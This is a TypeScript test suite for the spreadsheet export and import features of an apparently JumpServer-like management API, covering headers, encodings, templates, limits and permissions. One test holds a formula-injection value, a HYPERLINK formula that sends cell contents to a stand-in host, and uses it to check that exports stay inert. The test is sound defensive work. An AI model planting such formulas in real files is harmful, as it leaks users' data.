import { read as parse, utils, write } from 'xlsx';
import { describe, expect, it } from 'vitest';
import { FILE_LIMIT_BYTES } from '../../../sandbox/kernel/formats/upload.ts';
import {
  admin,
  type Answer,
  at,
  DEFAULT_ORG,
  freshWorlds,
  list,
  pluck,
  USER_ROLE,
  world,
} from '../world.ts';

freshWorlds();

type Format = 'csv' | 'xlsx';
type Rows = readonly (readonly string[])[];
const FORMATS: readonly Format[] = ['csv', 'xlsx'];
const MESSAGE = expect.any(String);

/** Parses a file like a spreadsheet program. */
function rowsOf(answer: Answer): string[][] {
  const book = parse(answer.bytes, { type: 'buffer', raw: true });
  const sheet = book.Sheets[book.SheetNames[0] ?? ''];
  return sheet ? utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true, defval: '' }) : [];
}

/** Writes a file as a user would save it. */
function fileOf(rows: readonly (readonly unknown[])[], format: Format): Buffer {
  const sheet = utils.aoa_to_sheet(rows.map((row) => [...row]));
  const book = { SheetNames: ['Data'], Sheets: { Data: sheet } };
  return Buffer.from(write(book, { type: 'buffer', bookType: format }) as Uint8Array);
}

async function upload(
  method: 'POST' | 'PUT' | 'PATCH',
  path: string,
  file: Buffer | string,
  format: Format = 'csv',
  client = admin,
): Promise<Answer> {
  const before = client.headers;
  client.headers = { ...before, 'content-type': `text/${format}` };
  const answer = await client.send(method, path, file);
  client.headers = before;
  return answer;
}

const preview = (path: string, rows: Rows, format: Format = 'csv') =>
  upload('POST', `${path}render-to-json/`, fileOf(rows, format), format);

async function labels(path: string, keep: (facts: unknown) => boolean, client = admin) {
  const fields = at((await client.options(path)).body, 'actions', 'POST') ?? {};
  return Object.entries(fields)
    .filter(([name, facts]) => name !== 'org_id' && keep(facts))
    .map(([name, facts]) => ({
      name,
      title: `${at(facts, 'required') ? '*' : ''}${at(facts, 'label')}`,
    }));
}

describe('an exported list', () => {
  it('is CSV with a byte order mark, named after model and time of the request', async () => {
    const answer = await admin.get('users/groups/?format=csv');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe(
      'attachment; filename="usergroup_2026-11-21_16-00-00.csv"',
    );
    expect([...answer.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(answer.text.endsWith('\r\n')).toBe(true);
    admin.headers = { ...admin.headers, 'x-tz': 'Europe/Berlin' };
    const elsewhere = await admin.get('users/groups/?format=csv');
    expect(elsewhere.headers['content-disposition']).toContain('usergroup_2026-11-21_09-00-00.csv');
  });

  it('is a workbook of texts', async () => {
    const answer = await admin.get('users/groups/?format=xlsx');
    expect(answer.headers['content-type']).toBe('application/xlsx; charset=utf-8');
    expect(answer.headers['content-disposition']).toContain('.xlsx"');
    expect(rowsOf(answer)).toEqual(rowsOf(await admin.get('users/groups/?format=csv')));
  });

  it.each(FORMATS)(
    'keeps what spreadsheets take for formulas, and reads it back: %s',
    async (format) => {
      const name = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")';
      const comment = '@SUM(1+1)';
      await admin.post('users/groups/', { name, comment });
      const exported = await admin.get(`users/groups/?format=${format}&search=HYPERLINK`);
      const [header = [], row = []] = rowsOf(exported);
      expect(row[header.indexOf('*Name')]).toBe(name);
      const read = await upload('POST', 'users/groups/render-to-json/', exported.bytes, format);
      expect(at(read.body, 'data', 0)).toMatchObject({ name, comment });
      if (format === 'csv') return;
      const book = parse(exported.bytes, { type: 'buffer' });
      const cells = Object.values(book.Sheets[book.SheetNames[0] ?? ''] ?? {});
      expect(cells.filter((cell) => at(cell, 'f') !== undefined)).toEqual([]);
    },
  );

  it.each([
    ['text/csv', 'text/csv; charset=utf-8'],
    ['application/xlsx', 'application/xlsx; charset=utf-8'],
    ['application/json, text/csv;q=0.5, */*', 'application/json'],
    ['text/html, */*;q=0.8', 'application/json'],
  ])('answers Accept: %s with %s', async (accept, type) => {
    admin.headers = { ...admin.headers, accept };
    expect((await admin.get('users/users/?limit=1')).headers['content-type']).toBe(type);
  });

  it('has what can be read as columns, starred where required, without the organization id', async () => {
    for (const path of ['users/users/', 'users/groups/', 'assets/assets/']) {
      const readable = await labels(path, (facts) => at(facts, 'write_only') === false);
      const [header] = rowsOf(await admin.get(`${path}?format=csv&limit=1`));
      expect(header).toEqual(readable.map(({ title }) => title));
    }
  });

  it('has its titles in the language of the request', async () => {
    const chinese = await world.as('admin', 'zh');
    const [header] = rowsOf(await chinese.get('users/groups/?format=csv'));
    const readable = await labels('users/groups/', () => true, chinese);
    expect(header).toEqual(readable.map(({ title }) => title));
    expect(header).not.toEqual(rowsOf(await admin.get('users/groups/?format=csv'))[0]);
  });

  it('writes values as Python does: lists in single quotes, True, nothing for what is empty', async () => {
    const asset = { hostname: "o'hara", ip: '10.9.9.9', platform: 'Linux', cpu_count: 0 };
    const protocols = ['ssh/22', 'telnet/23'];
    await admin.post('assets/assets/', { ...asset, protocols, comment: 'a, "b"\nc' });
    const answer = await admin.get("assets/assets/?format=csv&search=o'hara");
    expect(answer.text).toContain(`"['ssh/22', 'telnet/23']",True,`);
    expect(answer.text).toContain(`"a, ""b""\nc"`);
    const [header = [], row = []] = rowsOf(answer);
    expect(row[header.indexOf('Labels')]).toBe('');
    expect(row).not.toContain('0');
    expect(row).not.toContain('None');
  });

  it('holds what the query chooses: search, filters, chosen rows, a page', async () => {
    const hostnames = async (query: string) =>
      rowsOf(await admin.get(`assets/assets/?format=csv&${query}`))
        .slice(1)
        .map((row) => row[1]);
    const assets = list((await admin.get('assets/assets/?order=hostname')).body);
    expect(await hostnames('order=hostname')).toEqual(pluck(assets, 'hostname'));
    expect(await hostnames('order=hostname&limit=2&offset=1')).toEqual(
      pluck(assets.slice(1, 3), 'hostname'),
    );
    expect(await hostnames(`hostname=${at(assets[3], 'hostname')}`)).toEqual([
      at(assets[3], 'hostname'),
    ]);
    const chosen = { resources: pluck(assets.slice(0, 2), 'id') };
    const spm = at((await admin.post('common/resources/cache/', chosen)).body, 'spm');
    expect(await hostnames(`order=hostname&spm=${spm}`)).toEqual(
      pluck(assets.slice(0, 2), 'hostname'),
    );
    expect(await hostnames('spm=unknown')).toEqual([]);
  });

  it('ends after 10,000 rows, whatever the limit says', async () => {
    world.sandbox.database.run(
      `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10050)
       INSERT INTO r_users_usergroup (id, name, org_id) SELECT 'g' || i, 'many' || i, ? FROM n`,
      [DEFAULT_ORG],
    );
    for (const query of ['', '&limit=20000', '&offset=9000']) {
      const answer = await admin.get(`users/groups/?format=csv${query}`);
      expect(answer.text.trimEnd().split('\r\n')).toHaveLength(10_001);
    }
  });

  it('needs the right to view, and says so as JSON under its own type', async () => {
    const alice = await world.as('alice');
    const answer = await alice.get('users/users/?format=csv');
    expect(answer.status).toBe(403);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBeUndefined();
    expect(JSON.parse(answer.text)).toEqual({ detail: MESSAGE, code: 'permission_denied' });
    const filter = await admin.get('users/users/?format=xlsx&id=bad');
    expect([filter.status, JSON.parse(filter.text)]).toEqual([400, { id: [MESSAGE] }]);
  });

  it('exists in no other format', async () => {
    const unknown = await admin.get('users/users/?format=pdf');
    expect([unknown.status, unknown.body]).toEqual([404, { detail: MESSAGE, code: 'not_found' }]);
    admin.headers = { ...admin.headers, accept: 'image/png' };
    const unacceptable = await admin.get('users/users/');
    expect([unacceptable.status, at(unacceptable.body, 'code')]).toEqual([406, 'not_acceptable']);
  });
});

describe('a template', () => {
  it('for imports has what can be written, without ids, and one example', async () => {
    const writable = await labels('assets/assets/', (facts) => at(facts, 'read_only') === false);
    const [header, ...rows] = rowsOf(await admin.get('assets/assets/?format=csv&template=import'));
    const titles = writable.filter(({ name }) => name !== 'id').map(({ title }) => title);
    expect(header).toEqual(titles);
    expect(rows).toHaveLength(1);
  });

  it('for updates has the id as well, write-only columns empty, and all rows', async () => {
    const writable = await labels('users/users/', (facts) => at(facts, 'read_only') === false);
    const answer = await admin.get('users/users/?format=csv&template=update');
    const [header = [], ...rows] = rowsOf(answer);
    expect(header).toEqual(writable.map(({ title }) => title));
    expect(rows).toHaveLength(list((await admin.get('users/users/')).body).length);
    const password = writable.findIndex(({ name }) => name === 'password');
    expect(new Set(rows.map((row) => row[password]))).toEqual(new Set(['']));
  });

  it('has no row where there is no record', async () => {
    const answer = await admin.get('users/groups/?format=xlsx&template=import&search=nosuchgroup');
    expect(rowsOf(answer)).toHaveLength(1);
  });
});

describe('the preview of a file', () => {
  it.each(FORMATS)('pairs titles of a %s with fields and gives the rows', async (format) => {
    const answer = await preview(
      'users/users/',
      [
        ['*Name', 'username', '*Email', 'Odd', 'Source ', '*System roles', 'Valid'],
        ['Eve', 'eve', 'eve@example.com', 'x', 'y', `['${USER_ROLE}']`, 'True'],
        ['', '', '', '', '', '', ''],
        ['Frank', 'frank', 'bad', '', '', '', ''],
      ],
      format,
    );
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual({
      title: [
        ['*Name', 'name'],
        ['username', 'username'],
        ['*Email', 'email'],
        ['Odd', ''],
        ['Source ', ''],
        ['*System roles', 'system_roles'],
        ['Valid', ''],
      ],
      data: [
        { name: 'Eve', username: 'eve', email: 'eve@example.com', system_roles: [USER_ROLE] },
        { name: 'Frank', username: 'frank', email: 'bad' },
      ],
    });
  });

  it('writes nothing', async () => {
    await preview('users/groups/', [['Name'], ['new']]);
    expect((await admin.get('users/groups/?name=new')).body).toEqual([]);
  });

  it('reads quotes of any kind as those of JSON', async () => {
    const rows = [
      ['Name', 'Comment', 'User'],
      ['“a”', "it's", '[‘x’, ’y’]'],
    ];
    const data = at((await preview('users/groups/', rows)).body, 'data');
    expect(data).toEqual([{ name: '"a"', comment: 'it"s', users: ['x', 'y'] }]);
  });

  it('takes whole numbers of a workbook, as text where the field is one, and drops the rest', async () => {
    const file = fileOf(
      [
        ['hostname', 'ip', 'number', 'memory', 'is_active', 'cpu_count', 'cpu_cores', 'vendor'],
        ['web', '10.0.0.1', 42, 1.5, true, 4, 0, new Date(0)],
      ],
      'xlsx',
    );
    const answer = await upload('POST', 'assets/assets/render-to-json/', file, 'xlsx');
    expect(at(answer.body, 'data')).toEqual([
      { hostname: 'web', ip: '10.0.0.1', number: '42', cpu_count: 4, cpu_cores: 0 },
    ]);
  });

  it('keeps lists and objects of text fields as text', async () => {
    const rows = [
      ['hostname', 'disk_info', 'comment'],
      ['web', '{"sda": ["1", true]}', '[]'],
    ];
    const data = at((await preview('assets/assets/', rows)).body, 'data');
    expect(data).toEqual([{ hostname: 'web', disk_info: "{'sda': ['1', True]}", comment: '[]' }]);
  });

  it('reads the first sheet only', async () => {
    const book = utils.book_new();
    utils.book_append_sheet(book, utils.aoa_to_sheet([['Name'], ['first']]), 'One');
    utils.book_append_sheet(book, utils.aoa_to_sheet([['Name'], ['second']]), 'Two');
    const file = Buffer.from(write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array);
    const answer = await upload('POST', 'users/groups/render-to-json/', file, 'xlsx');
    expect(at(answer.body, 'data')).toEqual([{ name: 'first' }]);
  });

  it.each([
    ['UTF-8 with a mark', Buffer.from('\uFEFFName\r\n研发\r\n')],
    ['UTF-8 without one', Buffer.from('Name\n研发\n')],
    ['UTF-16', Buffer.from('\uFEFFName\r\n研发', 'utf16le')],
    ['GB18030', Buffer.from([...Buffer.from('Name\n'), 0xd1, 0xd0, 0xb7, 0xa2])],
  ])('knows %s', async (_encoding, file) => {
    const answer = await upload('POST', 'users/groups/render-to-json/', file);
    expect(answer.body).toEqual({ title: [['Name', 'name']], data: [{ name: '研发' }] });
  });

  it.each<[string, Format, Buffer]>([
    ['half a UTF-16 character', 'csv', Buffer.from([0xff, 0xfe, 0x00])],
    ['a quote that never ends', 'csv', Buffer.from('Name\n"a\nb\n')],
    ['a list that is none', 'csv', Buffer.from('User\n[a]\n')],
    ['a text file called xlsx', 'xlsx', Buffer.from('Name\na\n')],
    ['half a workbook', 'xlsx', fileOf([['Name'], ['a']], 'xlsx').subarray(0, 400)],
  ])('refuses %s', async (_what, format, file) => {
    const answer = await upload('POST', 'users/groups/render-to-json/', file, format);
    expect([answer.status, answer.body]).toEqual([400, { detail: MESSAGE, code: 'parse_error' }]);
  });

  it.each([
    ['no known column', 'a,b\r\n1,2\r\n'],
    ['a header alone', 'Name\r\n'],
    ['nothing', ''],
  ])('refuses a file with %s', async (_what, file) => {
    const answer = await upload('POST', 'users/users/render-to-json/', file);
    expect([answer.status, answer.body]).toEqual([400, { error: MESSAGE }]);
  });

  it('refuses what is larger than 10 MiB, however large', async () => {
    const head = 'Name,Comment\na,';
    const filled = (size: number) => Buffer.from(head.padEnd(size, 'x'));
    const path = 'users/groups/render-to-json/';
    expect((await upload('POST', path, filled(FILE_LIMIT_BYTES))).status).toBe(200);
    for (const size of [FILE_LIMIT_BYTES + 1, 3 * FILE_LIMIT_BYTES]) {
      const answer = await upload('POST', path, filled(size));
      expect([answer.status, answer.body]).toEqual([
        400,
        { detail: MESSAGE, code: 'file_content_overflowed' },
      ]);
    }
  });

  it('needs the right to add, and the request token', async () => {
    const auditor = await world.as('auditor');
    const path = 'users/groups/render-to-json/';
    const refused = await upload('POST', path, 'Name\na\n', 'csv', auditor);
    expect([refused.status, at(refused.body, 'code')]).toEqual([403, 'permission_denied']);
    admin.cookies.delete('jms_csrftoken');
    expect((await upload('POST', path, 'Name\na\n')).status).toBe(403);
  });

  it('exists for bulk resources only, and for POST', async () => {
    const platform = await upload('POST', 'assets/platforms/render-to-json/', 'Name\na\n');
    expect(platform.status).toBe(405);
    const metadata = await admin.options('users/groups/render-to-json/');
    expect(metadata.headers['allow']).toBe('POST, OPTIONS');
    expect(Object.keys(at(metadata.body, 'actions') ?? {})).toEqual(['POST']);
    expect((await admin.get('users/groups/render-to-json/')).status).toBe(405);
  });

  it('is impossible where there are no records', async () => {
    const answer = await upload('POST', 'common/resources/cache/', 'a\nb\n');
    expect([answer.status, at(answer.body, 'code')]).toEqual([400, 'parse_error']);
  });
});

describe('a file sent to the list itself', () => {
  it.each(FORMATS)('creates its rows (%s)', async (format) => {
    const rows = [['*Name', 'Comment'], ['one', 'first'], ['two']];
    const answer = await upload('POST', 'users/groups/', fileOf(rows, format), format);
    expect(answer.status).toBe(201);
    expect(pluck(answer.body, 'name')).toEqual(['one', 'two']);
    expect(pluck(answer.body, 'comment')).toEqual(['first', '']);
  });

  it('creates all or nothing', async () => {
    const answer = await upload('POST', 'users/groups/', 'Name,Comment\nfine,\n,no name\n');
    expect([answer.status, answer.body]).toEqual([400, [{}, { name: [MESSAGE] }]]);
    expect((await admin.get('users/groups/?name=fine')).body).toEqual([]);
  });

  it.each(FORMATS)('changes the records its ids name (%s)', async (format) => {
    const groups = list((await admin.get('users/groups/')).body);
    const id = String(at(groups[0], 'id'));
    const file = fileOf(
      [
        ['id', 'Comment'],
        [id, 'changed by file'],
      ],
      format,
    );
    const answer = await upload('PATCH', 'users/groups/', file, format);
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual([{ ...Object(groups[0]), comment: 'changed by file' }]);
  });

  it('needs an id in every row to change something', async () => {
    const answer = await upload('PATCH', 'users/groups/', 'Comment\nx\n');
    expect([answer.status, answer.body]).toEqual([400, [[MESSAGE]]]);
  });
});

describe('a file that was exported, edited and sent back', () => {
  const CASES = [
    { path: 'users/users/', query: 'template=update', field: 'comment' },
    { path: 'users/users/', query: '', field: 'phone', value: '13800000000' },
    { path: 'users/groups/', query: 'template=update', field: 'comment' },
    { path: 'users/groups/', query: '', field: 'comment' },
    { path: 'assets/assets/', query: 'template=update', field: 'comment' },
    { path: 'assets/assets/', query: '', field: 'comment' },
  ];
  const cases = CASES.flatMap((one) => FORMATS.map((format) => ({ ...one, format })));

  it.each(cases)('changes that cell alone: $path $query $format', async (example) => {
    const { path, query, field, format, value = 'edited in a spreadsheet' } = example;
    const before = list((await admin.get(path)).body).slice(0, 5);
    const exported = await admin.get(`${path}?format=${format}&limit=5&${query}`);
    const [header = [], ...rows] = rowsOf(exported);
    const all = await labels(path, () => true);
    const title = all.find(({ name }) => name === field)?.title ?? '';
    const column = header.indexOf(title);
    const edited = rows.map((row) => row.with(column, value));
    const shown = await preview(path, [header, ...edited], format);
    expect(shown.status).toBe(200);
    const data = list(at(shown.body, 'data'));
    expect(pluck(data, 'id')).toEqual(pluck(before, 'id'));
    for (const [index, row] of data.entries()) {
      // Like an import of the console: empty cells leave values unchanged.
      const whole = { ...Object(before[index]), ...Object(row) };
      // Nor does the console send what nobody can change about themselves.
      if (whole['username'] === 'admin') delete whole['is_active'];
      const saved = await admin.put(`${path}${at(row, 'id')}/`, whole);
      expect([saved.status, saved.body]).toEqual([
        200,
        { ...Object(before[index]), [field]: value },
      ]);
    }
  });

  it('keeps columns of one title apart', async () => {
    const [header = []] = rowsOf(await admin.get('users/users/?format=csv'));
    const answer = await preview('users/users/', [header, header.map(() => 'x')]);
    const roles = list(at(answer.body, 'title')).filter((pair) =>
      /System roles/.test(String(pair)),
    );
    expect(roles).toEqual([
      ['*System roles', 'system_roles'],
      ['System roles', ''],
    ]);
  });
});
